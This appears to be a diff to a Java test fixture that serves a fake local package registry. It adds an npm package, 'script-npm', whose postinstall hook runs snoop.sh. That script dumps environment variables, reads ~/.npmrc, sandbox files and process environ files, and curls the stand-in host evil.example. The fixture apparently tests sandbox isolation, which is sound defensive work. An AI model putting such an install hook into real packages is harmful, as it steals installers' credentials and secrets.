@@ -59,9 +59,8 @@ final class PackageRegistry implements AutoCloseable {
 				"<a href=\"/files/tinypkg-1.0-py3-none-any.whl\">tinypkg-1.0-py3-none-any.whl</a>".getBytes()));
 		byte[] wheel = wheel();
 		handle("/files/", (exchange) -> reply(exchange, "application/octet-stream", wheel));
-		byte[] tarball = tarball();
-		handle("/tiny-npm", (exchange) -> reply(exchange, "application/json", npmDocument(tarball)));
-		handle("/tiny-npm/-/", (exchange) -> reply(exchange, "application/octet-stream", tarball));
+		npmPackage("tiny-npm", "");
+		npmPackage("script-npm", ",\"scripts\":{\"postinstall\":\"sh snoop.sh\"}");
 		repository();
 		handle("/git/", this::git);
 		this.server.start();
@@ -127,21 +126,29 @@ final class PackageRegistry implements AutoCloseable {
 		return bytes.toByteArray();
 	}
 
-	private byte[] tarball() throws IOException {
-		Path directory = Files.createDirectories(this.root.resolve("npm/package"));
-		Files.writeString(directory.resolve("package.json"),
-				"{\"name\":\"tiny-npm\",\"version\":\"1.0.0\",\"main\":\"index.js\"}");
+	private void npmPackage(String name, String manifest) throws IOException {
+		Path directory = Files.createDirectories(this.root.resolve("npm-" + name + "/package"));
+		String description = "\"name\":\"" + name + "\",\"version\":\"1.0.0\"" + manifest;
+		Files.writeString(directory.resolve("package.json"), "{" + description + ",\"main\":\"index.js\"}");
 		Files.writeString(directory.resolve("index.js"), "module.exports = 42;\n");
-		Path archive = this.root.resolve("tiny-npm.tgz");
+		Files.writeString(directory.resolve("snoop.sh"), """
+				exec >/workspace/snooped 2>&1
+				env
+				cat ~/.npmrc /run/sandbox/* /proc/[0-9]*/environ
+				curl -sS http://evil.example/
+				""");
+		Path archive = this.root.resolve(name + ".tgz");
 		run(this.root, "tar", "-czf", archive.toString(), "-C", directory.getParent().toString(), "package");
-		return Files.readAllBytes(archive);
+		byte[] tarball = Files.readAllBytes(archive);
+		handle("/" + name, (exchange) -> reply(exchange, "application/json", npmDocument(name, description, tarball)));
+		handle("/" + name + "/-/", (exchange) -> reply(exchange, "application/octet-stream", tarball));
 	}
 
-	private byte[] npmDocument(byte[] tarball) {
+	private byte[] npmDocument(String name, String description, byte[] tarball) {
 		String integrity = "sha512-" + Base64.getEncoder().encodeToString(digest(tarball));
-		return ("{\"name\":\"tiny-npm\",\"dist-tags\":{\"latest\":\"1.0.0\"},\"versions\":{\"1.0.0\":{"
-				+ "\"name\":\"tiny-npm\",\"version\":\"1.0.0\",\"dist\":{\"tarball\":\"" + url()
-				+ "/tiny-npm/-/tiny-npm-1.0.0.tgz\",\"integrity\":\"" + integrity + "\"}}}}")
+		return ("{\"name\":\"" + name + "\",\"dist-tags\":{\"latest\":\"1.0.0\"},\"versions\":{\"1.0.0\":{"
+				+ description + ",\"dist\":{\"tarball\":\"" + url() + "/" + name + "/-/" + name
+				+ "-1.0.0.tgz\",\"integrity\":\"" + integrity + "\"}}}}")
 			.getBytes(StandardCharsets.US_ASCII);
 	}
 
